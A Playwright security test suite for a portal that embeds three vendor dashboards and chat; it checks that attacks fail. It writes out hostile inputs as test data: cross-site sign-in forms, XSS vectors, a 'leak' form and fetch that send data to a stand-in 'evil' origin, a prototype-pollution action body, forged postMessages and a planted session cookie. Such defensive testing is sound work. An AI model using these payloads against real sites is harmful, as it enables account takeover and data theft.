/**
 * The attack catalogue, played against the running portal: what can be sent over HTTP (the cases of `npm run attack`),
 * what pages of other sites try, what a script inside a portal page could do, and what is left after sign-out. Each test
 * is named after what must hold.
 */
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { attacks } from "../scripts/attack/cases";
import { Target } from "../scripts/attack/target";
import { portalOrigin } from "./fixtures/addresses";
import { expectInteractive } from "./fixtures/embed";
import { type SandboxId, sandbox } from "./fixtures/sandbox-control";
import { type BrowserContext, expect, type Page, test } from "./fixtures/test";

const mints = [
  ["/api/microstrategy/identity-token", { item: "sales-performance" }],
  ["/api/rocketchat/token", {}],
  ["/api/thoughtspot/token", { item: "customer-health" }],
] as const;
const links = ["/open/thoughtspot/customer-health", "/open/rocketchat?path=/channel/general"];
const vendors: readonly SandboxId[] = ["microstrategy", "rocketchat", "thoughtspot"];
const ownHeaders = { origin: portalOrigin, "sec-fetch-site": "same-origin", "x-portal-request": "1" };

const sessionCookie = async (context: BrowserContext) =>
  (await context.cookies(portalOrigin)).find(({ name }) => name === "authjs.session-token");

const isSignedIn = async (context: BrowserContext) =>
  (await (await context.request.get("/api/auth/session")).json()) !== null;

/** How many calls each vendor has had, but for looks at whether it is there. */
async function vendorCalls(): Promise<number> {
  const states = await Promise.all(vendors.map((id) => sandbox(id).state()));
  return states
    .flatMap(({ counts }) => Object.entries(counts))
    .filter(([call]) => call.startsWith("POST "))
    .reduce((sum, [, count]) => sum + count, 0);
}

/** The name under which the built portal knows a server action; anyone can read it from its pages. */
function actionId(exported: string): string {
  const { node } = JSON.parse(readFileSync(".next/server/server-reference-manifest.json", "utf8")) as {
    node: Record<string, { exportedName: string }>;
  };
  const [id] = Object.entries(node).find(([, { exportedName }]) => exportedName === exported) ?? [];
  if (!id) throw new Error(`The build has no action ${exported}.`);
  return id;
}

/** A site of someone else. */
let evil: { server: Server; origin: string; html: string; asked: string[] };

test.beforeAll(async () => {
  const server = createServer((request, response) => {
    evil.asked.push(request.url ?? "");
    response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><title>Evil</title>${evil.html}`);
  });
  await new Promise<void>((resolve) => {
    server.listen(0, "127.0.0.1", resolve);
  });
  evil = { server, origin: `http://evil.localhost:${(server.address() as AddressInfo).port}`, html: "", asked: [] };
});

test.afterAll(() => {
  evil.server.closeAllConnections();
  evil.server.close();
});

async function visitEvil(page: Page, html: string): Promise<void> {
  evil.html = html;
  await page.goto(evil.origin);
}

test.describe("over HTTP", () => {
  let target: Target;
  test.beforeAll(async () => {
    target = await Target.at(portalOrigin);
  });

  for (const { id, title, needs, run } of attacks)
    test(`${id} ${title}`, async () => {
      expect(target.personas).toBe(true);
      const before = await vendorCalls();
      await run(target);
      if (!needs) expect(await vendorCalls()).toBe(before);
    });

  test("a look at a link without opening it makes no token", async ({ context, signInAs }) => {
    await signInAs("analyst");
    const before = await vendorCalls();
    for (const path of links) {
      expect((await context.request.fetch(path, { method: "HEAD", maxRedirects: 0 })).status()).toBe(204);
      expect((await context.request.post(path, { headers: ownHeaders })).status()).toBe(405);
    }
    expect(await vendorCalls()).toBe(before);
  });

  test("an address that does not decode is the sender's mistake, not the portal's", async ({ context }) => {
    for (const path of ["/%", "/%E0%A4%A", "/dashboards/%ff", "/api/%", "/open/thoughtspot/%zz"]) {
      const response = await context.request.get(path);
      expect(response.status(), path).toBe(400);
      expect(await response.json()).toMatchObject({ code: "invalid_request" });
    }
  });

  test("a broken argument of a server action changes nothing", async ({ context, signInAs }) => {
    await signInAs("analyst");
    const id = actionId("signInAsPersonaAction");
    const plain = { origin: portalOrigin, "content-type": "text/plain;charset=UTF-8" };
    for (const [action, data] of [
      [id, '["$F1"'],
      [id, '["$1:__proto__:constructor"]'],
      [id, "[".repeat(50_000)],
      [id, `["${"a".repeat(2_000_000)}"]`],
    ] as const) {
      const response = await context.request.post("/signin", { headers: { ...plain, "next-action": action }, data });
      expect(response.status()).toBeGreaterThanOrEqual(400);
      expect(await response.text()).not.toMatch(/node_modules|at \w+ \(/);
    }
    expect((await context.request.get("/api/health")).status()).toBe(200);
    expect(await isSignedIn(context)).toBe(true);
  });
});

test("every answer carries the headers that protect it, errors and missing pages too", async ({
  context,
  signInAs,
}) => {
  await signInAs("analyst");
  const pages = ["/", "/chat", "/dashboards/sales-performance", "/dashboards/nope", "/nowhere", "/a/b/c", "/problems"];
  const framed = "/rocketchat/loading";
  for (const path of [...pages, framed, "/signed-out", "/_next/staticfoo", "/api/nowhere", "/api/health", "/%"]) {
    const response = await context.request.get(path);
    const headers = response.headers();
    const policy = headers["content-security-policy"] ?? "";
    expect(headers["cache-control"], path).toContain("no-store");
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["x-request-id"], path).toMatch(/^[0-9a-f-]{36}$/);
    expect(headers["cross-origin-resource-policy"], path).toBe("same-origin");
    if (path.startsWith("/api/")) {
      expect(policy, path).toBe("default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'");
    } else {
      expect(policy, path).toMatch(/object-src 'none'.*base-uri 'self'/);
      expect(policy, path).toMatch(/script-src 'self' 'nonce-[\w+/=]{24}' 'strict-dynamic'/);
    }
    if (path !== framed) expect(policy, path).toContain("frame-ancestors 'none'");
    expect(headers, path).not.toHaveProperty("x-powered-by");
    expect(headers, path).not.toHaveProperty("access-control-allow-origin");
  }
});

test.describe("a page of another site", () => {
  const form = (action: string, fields: Record<string, string>, attributes = "") =>
    `<form method="post" enctype="multipart/form-data" action="${portalOrigin}${action}" ${attributes}>${Object.entries(
      fields,
    )
      .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
      .join("")}<button>Win</button></form>`;

  for (const [name, head] of [
    ["by a form", ""],
    ["by a form that hides where it comes from", '<meta name="referrer" content="no-referrer">'],
  ] as const) {
    test(`signs no one in ${name}`, async ({ page, context, errors }) => {
      errors.allow(/./);
      const fields = { [`$ACTION_ID_${actionId("signInAsPersonaAction")}`]: "", persona: "admin", from: "/" };
      await visitEvil(page, head + form("/signin", fields));
      await page.getByRole("button", { name: "Win" }).click();
      await page.waitForURL(`${portalOrigin}/**`);
      expect(await sessionCookie(context)).toBeUndefined();
    });

    test(`signs no one out ${name}`, async ({ page, context, signInAs, errors }) => {
      errors.allow(/./);
      await signInAs("analyst");
      await visitEvil(page, head + form("/", { [`$ACTION_ID_${actionId("signOutAction")}`]: "" }));
      await page.getByRole("button", { name: "Win" }).click();
      await page.waitForURL(`${portalOrigin}/**`);
      expect(await isSignedIn(context)).toBe(true);
    });
  }

  test("signs no one in from a frame that has no origin", async ({ page, context, errors }) => {
    errors.allow(/./);
    const fields = { [`$ACTION_ID_${actionId("signInAsPersonaAction")}`]: "", persona: "admin", from: "/" };
    const inside = form("/signin", fields, 'target="_top"').replaceAll('"', "&quot;");
    await visitEvil(page, `<iframe sandbox="allow-forms allow-top-navigation" srcdoc="${inside}"></iframe>`);
    await page.frameLocator("iframe").getByRole("button", { name: "Win" }).click();
    await page.waitForURL(`${portalOrigin}/**`);
    expect(await sessionCookie(context)).toBeUndefined();
  });

  test("makes no token and reads none, whatever it sends", async ({ page, signInAs, errors }) => {
    errors.allow(/./);
    await signInAs("analyst");
    const before = await vendorCalls();
    await visitEvil(page, "");
    const results = await page.evaluate(
      async ({ portal, paths, links }) => {
        const attempt = (path: string, init: RequestInit) =>
          fetch(portal + path, { credentials: "include", ...init }).then(
            (response) => `${response.type} ${response.status}`,
            () => "blocked",
          );
        const json = { "content-type": "application/json", "x-portal-request": "1" };
        const body = '{"item":"customer-health"}';
        return Promise.all([
          ...paths.flatMap((path) => [
            attempt(path, { method: "POST", body, headers: json }),
            attempt(path, { method: "POST", body, headers: { "content-type": "text/plain" }, mode: "no-cors" }),
            attempt(path, { method: "POST", body: new URLSearchParams({ item: "a" }), mode: "no-cors" }),
            attempt(path, { method: "POST", body: new FormData(), mode: "no-cors" }),
          ]),
          ...["/api/rocketchat/sso", "/api/auth/session", ...links].flatMap((path) => [
            attempt(path, {}),
            attempt(path, { mode: "no-cors", redirect: "manual" }),
          ]),
        ]);
      },
      { portal: portalOrigin, paths: mints.map(([path]) => path), links },
    );
    for (const result of results) expect(["blocked", "opaque 0", "opaqueredirect 0"]).toContain(result);
    expect(await vendorCalls()).toBe(before);
  });

  test("frames no page of the portal", async ({ page, signInAs, errors }) => {
    errors.allow(/./);
    await signInAs("analyst");
    const paths = ["/", "/signin", "/chat", "/dashboards/sales-performance", "/rocketchat/loading", "/nowhere"];
    await visitEvil(page, paths.map((path) => `<iframe src="${portalOrigin}${path}"></iframe>`).join(""));
    await expect.poll(() => page.frames().length).toBe(paths.length + 1);
    // What the browser shows in place of a page that it may not frame.
    const shown = () =>
      page
        .frames()
        .slice(1)
        .map((frame) => new URL(frame.url() || "about:blank").protocol);
    await expect.poll(shown).toEqual(paths.map(() => "chrome-error:"));
  });

  test("makes no token by pictures, frames and links that are only looked at", async ({ page, signInAs, errors }) => {
    errors.allow(/./);
    await signInAs("analyst");
    const before = await vendorCalls();
    const address = (path: string) => portalOrigin + path;
    const tags = links.map(address).map(
      (url) =>
        `<img src="${url}"><iframe src="${url}"></iframe><script src="${url}"></script>
         <link rel="prefetch" href="${url}"><link rel="stylesheet" href="${url}"><object data="${url}"></object>
         <script type="speculationrules">{"prerender":[{"urls":["${url}"]}],"prefetch":[{"urls":["${url}"]}]}</script>`,
    );
    await visitEvil(page, tags.join(""));
    await page.waitForLoadState("networkidle");
    expect(await vendorCalls()).toBe(before);
  });

  test("that opens the portal in a window has no hold on it", async ({ page, signInAs }) => {
    await signInAs("analyst");
    await visitEvil(page, '<button onclick="w = window.open()">Open</button>');
    const opened = page.waitForEvent("popup");
    await page.getByRole("button", { name: "Open" }).click();
    const popup = await opened;
    await page.evaluate((url) => {
      (window as unknown as { w: Window }).w.location.href = url;
    }, `${portalOrigin}/account/connections`);
    await popup.waitForURL("**/account/connections");
    await expect.poll(() => page.evaluate(() => (window as unknown as { w: Window }).w.closed)).toBe(true);
    expect(await popup.evaluate(() => window.opener)).toBeNull();
  });
});

test.describe("inside a portal page", () => {
  test("nothing runs, loads or leaves that the portal did not put there", async ({ page, signInAs, errors }) => {
    errors.allow(/Content Security Policy|Refused to|violates/);
    await signInAs("analyst", { from: "/account/connections" });
    evil.asked = [];
    await page.evaluate((origin) => {
      const add = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
      const seen: string[] = [];
      Object.assign(window, { seen });
      document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
      // What a parser finds; an element that a trusted script makes is that script's own doing ('strict-dynamic').
      add(`<iframe srcdoc="<script>parent.ran = 'inline'</script>"></iframe>`);
      add(`<img src="x" onerror="window.ran = 'handler'">`);
      add(`<a id="js" href="javascript:window.ran = 'address'">x</a>`);
      document.getElementById("js")?.click();
      const base = document.createElement("base");
      base.href = `${origin}/`;
      document.head.append(base);
      add(
        `<object data="${origin}/object"></object><iframe src="${origin}/frame"></iframe><img src="${origin}/image">`,
      );
      add(`<link rel="stylesheet" href="${origin}/style.css">`);
      add(`<form id="leak" method="post" action="${origin}/form"><input name="a" value="b"></form>`);
      (document.getElementById("leak") as HTMLFormElement).requestSubmit();
      fetch(`${origin}/fetch`).catch(() => {});
    }, evil.origin);
    const refused = () => page.evaluate(() => (window as unknown as { seen: string[] }).seen);
    for (const directive of ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src"])
      await expect.poll(refused).toContain(directive);
    for (const directive of ["script-src-attr", "style-src-elem"]) await expect.poll(refused).toContain(directive);
    const left = await page.evaluate(() => [
      (window as { ran?: string }).ran ?? null,
      new URL(document.baseURI).origin,
    ]);
    expect(left).toEqual([null, portalOrigin]);
    expect(evil.asked).toEqual([]);
  });

  test("a forged message does not speak for a vendor", async ({ page, signInAs }) => {
    await signInAs("analyst", { from: "/chat/general" });
    const { section } = await expectInteractive(page, "rocketchat", "general");
    await page.evaluate(() => {
      const stranger = document.createElement("iframe");
      document.body.append(stranger);
      const forged = [
        { eventName: "startup", data: true },
        { eventName: "Custom_Script_Logged_Out" },
        { eventName: "unread-changed", data: 4711 },
        { event: "login-error", response: "forged" },
        { externalCommand: "login-with-token", token: "forged" },
        { type: "loggedOut" },
        { type: "authFailure", data: { type: "forged" } },
      ];
      for (const message of forged) {
        window.postMessage(message, "*");
        window.dispatchEvent(
          new MessageEvent("message", { data: message, origin: "null", source: stranger.contentWindow }),
        );
        window.dispatchEvent(new MessageEvent("message", { data: message, origin: window.location.origin }));
      }
    });
    await expect(section).toHaveAttribute("data-state", "interactive");
    await expect(page.getByText("4711")).toHaveCount(0);
  });

  test("a token stands in no address, referrer, storage, cookie or history", async ({ page, context, signInAs }) => {
    const seen: string[] = [];
    context.on("request", (request) => {
      const fromPortal = request.url().startsWith(portalOrigin);
      seen.push(fromPortal ? request.url() : "", request.headers().referer ?? "");
    });
    await signInAs("analyst", { from: "/chat/general" });
    await expectInteractive(page, "rocketchat", "general");
    await page.goto("/insights/customer-health");
    await expectInteractive(page, "thoughtspot", "customer-health");
    await page.goto("/dashboards/sales-performance");
    await expectInteractive(page, "microstrategy", "sales-performance");

    const grants = await Promise.all(
      mints.map(async ([path, data]) =>
        JSON.stringify(await (await context.request.post(path, { headers: ownHeaders, data })).json()),
      ),
    );
    const tokens = grants.flatMap((grant) =>
      [...grant.matchAll(/"(?:identityToken|token)":"([^"]+)"/g)].map(([, t]) => t),
    );
    expect(tokens).toHaveLength(3);
    const kept = await page.evaluate(() =>
      [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie, location.href].join(
        " ",
      ),
    );
    for (const token of tokens) expect([...seen, kept].some((text) => text.includes(token ?? ""))).toBe(false);
    for (const path of ["/", "/account/connections", "/signed-out", "/problems", "/dashboards/nope"]) {
      const html = await (await context.request.get(path)).text();
      for (const token of tokens) expect(html.includes(token ?? ""), path).toBe(false);
    }
  });
});

test.describe("a session", () => {
  test("is a new one at every sign-in, whatever cookie was there before", async ({ page, context, signInAs }) => {
    const planted = { name: "authjs.session-token", value: "planted", url: portalOrigin, httpOnly: true };
    await context.addCookies([{ ...planted, sameSite: "Lax" }]);
    await signInAs("analyst");
    const first = await sessionCookie(context);
    expect(first?.value).not.toBe("planted");
    await context.clearCookies();
    await signInAs("analyst", { page });
    expect((await sessionCookie(context))?.value).not.toBe(first?.value);
  });

  test("that ends while tokens are being made leaves none alive", async ({ context, page, signInAs }) => {
    for (let round = 0; round < 3; round += 1) {
      await signInAs("viewer", { page });
      const cookie = (await sessionCookie(context))?.value;
      const ask = (renew: boolean) =>
        mints.map(([path, data]) =>
          context.request.post(path, {
            headers: { ...ownHeaders, cookie: `authjs.session-token=${cookie}` },
            data: renew ? { ...data, renew } : data,
          }),
        );
      const signOut = context.request.post("/", {
        headers: {
          origin: portalOrigin,
          "next-action": actionId("signOutAction"),
          "content-type": "text/plain;charset=UTF-8",
          cookie: `authjs.session-token=${cookie}`,
        },
        data: "[]",
      });
      const answers = await Promise.all([...ask(false), ...ask(true), signOut, ...ask(true), ...ask(false)]);
      for (const answer of answers) expect([200, 303, 401]).toContain(answer.status());
      await context.clearCookies();
    }
    await expect
      .poll(async () => {
        const [mstr, chat, insights] = [
          await sandbox("microstrategy").state(),
          await sandbox("rocketchat").state(),
          await sandbox("thoughtspot").state(),
        ];
        const people = chat.users as { username: string; loginTokens: number }[];
        return [
          (mstr.sessions as { user: string }[]).filter(({ user }) => user === "v.viewer").length,
          people.find(({ username }) => username === "v.viewer")?.loginTokens ?? 0,
          (insights.tokensAlive as { user: string }[]).filter(({ user }) => user.startsWith("v.viewer")).length,
        ];
      })
      .toEqual([0, 0, 0]);
  });

  test("that has ended leaves nothing behind for the Back button", async ({ page, signInAs }) => {
    await signInAs("analyst", { from: "/account/connections" });
    await expect(page.getByText("a.analyst").first()).toBeVisible();
    await page.getByRole("button", { name: /^Account of/ }).click();
    await page.getByRole("menuitem", { name: "Sign out" }).click();
    await page.waitForURL("**/signed-out");
    await page.goBack();
    await page.waitForURL(/\/signin|\/signed-out/);
    await expect(page.getByText("a.analyst")).toHaveCount(0);
  });
});
